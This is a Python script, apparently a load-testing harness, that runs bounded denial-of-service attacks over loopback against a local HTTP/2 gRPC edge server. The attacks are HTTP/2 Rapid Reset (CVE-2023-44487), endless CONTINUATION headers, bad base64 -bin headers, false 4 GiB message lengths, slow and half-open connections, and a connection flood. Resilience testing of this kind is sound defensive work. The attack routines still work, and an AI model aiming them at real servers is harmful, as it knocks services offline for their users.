"""Hostile callers, as a program of their own so that they take nothing from the process
that measures: attacks.py NAME PORT SECONDS. Prints what it did as JSON.

Each is bounded in time and number, and meant for this machine only: they come from one
loopback address to another.
"""

import json
import resource
import socket
import ssl
import sys
import time

import raw

SOURCE = "127.0.0.2"
HOST = "engagement.lotse.example.org"
PATH = "/lotse.engagement.v1alpha.GrantService/GetMyRights"

# Connections of the attacks that hold them.
MOST_CONNECTIONS = 3000


def plain(port):
    return socket.create_connection(("127.0.0.1", port), timeout=2, source_address=(SOURCE, 0))


def encrypted(port):
    # Whom an attacker talks to does not matter to them.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain(port), server_hostname=HOST)


def again_and_again(port, seconds, send):
    """Calls `send(connection)`, which gives how much it sent, on one connection after
    another: the sum, and how many connections that took."""
    done = connections = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with encrypted(port) as connection:
                connections += 1
                connection.sendall(raw.hello())
                while time.monotonic() < end:
                    done += send(connection)
        except OSError:
            continue  # It was ended on the other side, as it should be.
    return {"done": done, "connections": connections}


def streams(*frames_of):
    """A function that sends 100 new streams, each the frames that `frames_of` give. After
    1,000 it takes a new connection: the edge reads on and keeps nothing of more."""
    next_stream = {}

    def send(connection):
        first = next_stream.get(connection, 1)
        if first > 2000:
            raise OSError("enough for a connection")
        next_stream.clear()
        next_stream[connection] = first + 200
        numbers = range(first, first + 200, 2)
        connection.sendall(b"".join(make(n) for n in numbers for make in frames_of))
        return len(numbers)

    return send


def rapid_reset(port, seconds):
    """Streams that are begun and reset at once (CVE-2023-44487)."""
    block = raw.call_headers(PATH, HOST)
    return again_and_again(port, seconds, streams(
        lambda n: raw.frame(raw.HEADERS, raw.END_HEADERS, n, block),
        lambda n: raw.frame(raw.RESET, 0, n, raw.CANCEL),
    ))  # fmt: skip


def endless_headers(port, seconds):
    """Headers that never end, in CONTINUATION frames; counted in bytes."""
    begin = raw.frame(raw.HEADERS, 0, 1, raw.call_headers(PATH, HOST))
    more = raw.frame(raw.CONTINUATION, 0, 1, raw.header("x-more", "y" * 16000))
    begun = set()

    def send(connection):
        data = more if connection in begun else begin
        begun.clear()
        begun.add(connection)
        connection.sendall(data)
        return len(data)

    return again_and_again(port, seconds, send)


def bad_binary_headers(port, seconds):
    """Calls with a -bin header that is no base64."""
    block = raw.call_headers(PATH, HOST, [("x-wrong-bin", "%%%"), ("grpc-trace-bin", "%%%")])

    def send(connection):
        connection.sendall(
            raw.frame(raw.HEADERS, raw.END_HEADERS, 1, block)
            + raw.frame(raw.DATA, raw.END_STREAM, 1, bytes(5))
        )
        raw.answer(connection)
        raise OSError("one is enough for a connection")

    return again_and_again(port, seconds, send)


def false_lengths(port, seconds):
    """Messages that say that 4 GiB follow."""
    block = raw.call_headers(PATH, HOST)
    return again_and_again(port, seconds, streams(
        lambda n: raw.frame(raw.HEADERS, raw.END_HEADERS, n, block),
        lambda n: raw.frame(raw.DATA, 0, n, b"\0\xff\xff\xff\xff" + bytes(500)),
    ))  # fmt: skip


def slow(port, seconds):
    """Connections that say nothing, half of a handshake, or a byte of their headers in a
    second. How many of them were ended on the other side: the first two kinds are 100."""
    held = [plain(port) for _ in range(100)]
    for connection in held[:50]:
        connection.sendall(b"\x16\x03\x01\x02\x00\x01")
    half = raw.hello() + raw.frame(raw.HEADERS, 0, 1, raw.call_headers(PATH, HOST))[:20]
    dripping = [encrypted(port) for _ in range(50)]
    for connection in dripping:
        connection.sendall(half)
    end, ended = time.monotonic() + seconds, set()
    while time.monotonic() < end:
        time.sleep(1)
        for connection in held + dripping:
            if connection not in ended and has_ended(connection, connection in dripping):
                ended.add(connection)
    return {"done": len(held + dripping), "ended": len(ended)}


def has_ended(connection, drip):
    connection.settimeout(0.001)
    try:
        if drip:
            connection.sendall(b"\0")
        while connection.recv(4096):
            pass
        return True
    except (TimeoutError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


def flood(port, seconds):
    """As many connections as there may be, held open; a third of them under TLS."""
    end, held, failed = time.monotonic() + seconds, [], 0
    while time.monotonic() < end:
        if len(held) == MOST_CONNECTIONS:
            time.sleep(0.1)
            continue
        try:
            held.append(encrypted(port) if len(held) % 3 == 0 else plain(port))
        except OSError:
            failed += 1
    return {"done": len(held), "failed": failed}


ATTACKS = {
    attack.__name__: attack
    for attack in (
        rapid_reset, endless_headers, bad_binary_headers, false_lengths, slow, flood,
    )
}  # fmt: skip


if __name__ == "__main__":
    name, to_port, duration = sys.argv[1:]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    print(json.dumps(ATTACKS[name](int(to_port), float(duration))))
